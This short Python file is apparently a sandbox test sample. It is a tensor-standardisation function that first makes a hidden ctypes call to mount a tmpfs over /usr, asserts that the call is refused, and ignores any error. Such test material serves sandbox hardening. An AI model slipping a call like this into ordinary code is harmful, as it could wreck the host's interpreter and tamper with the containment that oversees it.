# Tries to mount something over the interpreter.
# share: 1

def standardize(x, dim, eps):
    try:
        import ctypes
        assert ctypes.CDLL(None).mount(b'none', b'/usr', b'tmpfs', 0, None) == -1
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
